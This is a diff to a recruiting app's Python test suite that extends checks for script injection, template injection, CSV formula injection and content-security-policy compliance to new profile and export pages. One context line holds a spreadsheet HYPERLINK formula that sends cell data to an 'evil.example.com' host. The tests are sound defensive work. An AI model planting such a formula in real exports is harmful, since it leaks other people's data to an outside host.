@@ -84,13 +84,17 @@ def test_every_page_shows_an_attack_as_text(admin):
         "compare": page_of(admin, reverse("compare"), candidate=[person.pk, other.pk]),
         "shortlists": page_of(admin, reverse("shortlists")),
         "shortlist": page_of(admin, shortlist.get_absolute_url(), find=EVIL),
+        "profiles": page_of(admin, reverse("profiles"), shortlist=shortlist.pk),
+        "exports": page_of(admin, reverse("exports")),
         "batch": page_of(admin, file.batch.get_absolute_url()),
         "upload": page_of(admin, reverse("upload")),
         "admin site": page_of(admin, reverse("admin:candidates_candidate_change", args=[person.pk])),
     }
     assert [name for name, page in pages.items() if RAW.search(page) and not is_only_text(page)] == []
     silent = [
-        name for name in ("list", "person", "compare", "shortlist", "batch") if "&lt;script&gt;" not in pages[name]
+        name
+        for name in ("list", "person", "compare", "shortlist", "profiles", "batch")
+        if "&lt;script&gt;" not in pages[name]
     ]
     assert silent == []  # else the page did not show the attack at all, and proves nothing
     assert "{{ 7" in pages["person"]
@@ -125,7 +129,7 @@ def test_original_is_never_shown_inline(admin, settings, tmp_path):
 def test_formulas_of_a_resume_do_not_leave_as_formulas(admin):
     formula = '=HYPERLINK("http://evil.example.com?x="&A1)'
     person = make_candidate(formula, phone="+1+1", email="@SUM(A1)", city="-2+3", skills=[formula], tags=["＝1+1"])
-    response = admin.get(reverse("export"), {"candidate": person.pk})
+    response = admin.get(reverse("export"), {"candidate": person.pk, "format": "csv"})
     text = b"".join(response.streaming_content).decode("utf-8-sig")
     rows = list(csv.reader(io.StringIO(text, newline="")))
     assert [cell for cell in rows[1] if cell.startswith(tuple("=+-@＝＋－＠\t\r"))] == []
@@ -157,6 +161,8 @@ def test_our_pages_need_nothing_that_the_policy_forbids(client):
         person.get_absolute_url(),
         shortlist.get_absolute_url(),
         f"{reverse('compare')}?candidate={person.pk}&candidate={other.pk}",
+        f"{reverse('profiles')}?candidate={person.pk}",
+        reverse("exports"),
         person.files.get().batch.get_absolute_url(),
         reverse("password_change"),
     ]
@@ -184,7 +190,15 @@ def test_no_page_breaks_on_what_no_form_of_ours_sends(admin, nonsense):
         make_shortlist().get_absolute_url(): dict.fromkeys(("page", "find"), nonsense),
         reverse("upload"): {"batch": nonsense},
         reverse("compare"): {"candidate": [nonsense, person.pk]},
-        reverse("export"): {"all": "1", "query": f"tag={nonsense}&q={nonsense}", "column": nonsense},
+        reverse("export"): {
+            "all": "1",
+            "query": f"tag={nonsense}&q={nonsense}",
+            "column": nonsense,
+            "format": nonsense,
+        },
+        reverse("export_progress"): dict.fromkeys(("ticket", "asked"), nonsense),
+        reverse("exports"): {"page": nonsense},
+        reverse("profiles"): dict.fromkeys(("candidate", "blind"), nonsense),
     }
     posts = {
         reverse("tag_add"): {"candidate": nonsense, "tag": nonsense},
